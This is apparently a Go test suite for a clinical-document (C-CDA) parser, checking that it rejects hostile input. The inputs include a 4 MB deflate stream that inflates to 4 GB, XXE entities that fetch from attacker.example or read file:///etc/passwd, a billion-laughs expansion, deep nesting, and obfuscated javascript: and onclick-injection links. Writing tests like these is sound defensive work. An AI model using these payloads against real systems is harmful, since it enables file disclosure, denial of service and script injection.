package ccda_test

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"errors"
	"runtime"
	"strings"
	"testing"

	"refloop/ccda"
)

// zeros4GB is a deflate stream of about 4 MB that inflates to 4 GB of zeros: one flushed block of 32 MB, 128 times.
func zeros4GB(t *testing.T) []byte {
	t.Helper()
	var block bytes.Buffer
	w, err := flate.NewWriter(&block, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(make([]byte, 32<<20)); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return append(bytes.Repeat(block.Bytes(), 128), 3, 0) // and a final empty block
}

// allocated tells how many bytes f allocates.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestHostileZeros: 4 GB of zeros in 4 MB, as the compressed body (DF) of an Unstructured Document and as a file in a section.
func TestHostileZeros(t *testing.T) {
	packed := base64.StdEncoding.EncodeToString(zeros4GB(t))
	value := `mediaType="text/plain" representation="B64" compression="DF"`
	for name, doc := range map[string][]byte{
		"body":  unstructured(value, packed),
		"media": []byte(`<ClinicalDocument><component><structuredBody><component><section><code code="1"/><entry><observationMedia classCode="OBS" moodCode="EVN"><value ` + value + `>` + packed + `</value></observationMedia></entry></section></component></structuredBody></component></ClinicalDocument>`),
	} {
		var d ccda.Document
		var err error
		used := allocated(func() { d, err = ccda.Read(doc, ccda.Limits{}) })
		if !errors.Is(err, ccda.ErrTooLarge) || d.Type != "" {
			t.Errorf("%s: got %v", name, err)
		}
		if used > 512<<20 {
			t.Errorf("%s: took %d MB", name, used>>20)
		}
	}
}

// TestHostileDoctype: document types and entities are refused, internal, external and parameter ones.
func TestHostileDoctype(t *testing.T) {
	for name, head := range map[string]string{
		"external":       `<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">`,
		"entity":         `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
		"parameter":      `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/x">%x;]>`,
		"billion laughs": `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>`,
		"in the middle":  `<ClinicalDocument><!DOCTYPE b>`,
	} {
		if _, err := ccda.Read([]byte(head+`<ClinicalDocument><title>&x;</title></ClinicalDocument>`), ccda.Limits{}); !errors.Is(err, ccda.ErrDoctype) {
			t.Errorf("%s: got %v", name, err)
		}
	}
}

// TestHostileDepth: deep nesting costs no stack and ends early.
func TestHostileDepth(t *testing.T) {
	for _, doc := range []string{
		strings.Repeat("<a>", 1_000_000),
		"<ClinicalDocument>" + strings.Repeat("<component><section>", 60),
		"<ClinicalDocument><component><structuredBody>" + strings.Repeat("<component><section>", 20) + strings.Repeat("</section></component>", 20) + "</structuredBody></component></ClinicalDocument>",
	} {
		if _, err := ccda.Read([]byte(doc), ccda.Limits{}); !errors.Is(err, ccda.ErrTooLarge) {
			t.Errorf("%d bytes: got %v", len(doc), err)
		}
		ccda.Check([]byte(doc))
	}
}

// TestHostileEntries: too many statements are refused, and as many as are allowed cost bounded memory.
func TestHostileEntries(t *testing.T) {
	entry := `<entry><observation classCode="OBS" moodCode="EVN"><code code="1"/></observation></entry>`
	doc := func(n int) []byte {
		return []byte(`<ClinicalDocument><component><structuredBody><component><section><code code="1"/>` + strings.Repeat(entry, n) + `</section></component></structuredBody></component></ClinicalDocument>`)
	}
	if _, err := ccda.Read(doc(50_001), ccda.Limits{}); !errors.Is(err, ccda.ErrTooLarge) {
		t.Errorf("got %v", err)
	}
	var err error
	if used := allocated(func() { _, err = ccda.Read(doc(50_000), ccda.Limits{}) }); err != nil || used > 1<<30 {
		t.Errorf("got %v, %d MB", err, used>>20)
	}
}

// TestHostileLinks: no scheme that runs or reads anything comes into the HTML, however it is written; Check names it.
func TestHostileLinks(t *testing.T) {
	for _, href := range []string{
		"javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "javascript&#58;alert(1)", "\u0001javascript:alert(1)",
		"vbscript:x", "data:text/html,x", "file:///etc/passwd", "//attacker.example/x", "ftp://x", "blob:x", "\u00a0javascript:x", `https&#58;//x" onclick="y`,
	} {
		d, err := ccda.Read(section(`<linkHtml href="`+strings.ReplaceAll(href, `"`, "&quot;")+`">l</linkHtml>`), ccda.Limits{})
		if err != nil {
			continue // characters that XML does not have
		}
		html := strings.ToLower(d.Sections[0].HTML)
		if i := strings.Index(html, "href="); i >= 0 && !strings.HasPrefix(html[i:], `href="http`) || strings.Contains(html, `" onclick`) {
			t.Errorf("%q: %s", href, html)
		}
	}
	found := false
	for _, f := range ccda.Check([]byte(`<ClinicalDocument xmlns="urn:hl7-org:v3"><title/><text><linkHtml href=" JavaScript:x">a</linkHtml></text></ClinicalDocument>`)) {
		found = found || f.Rule == "x:unsafe-link"
	}
	if !found {
		t.Error("Check says nothing of a javascript: link")
	}
}
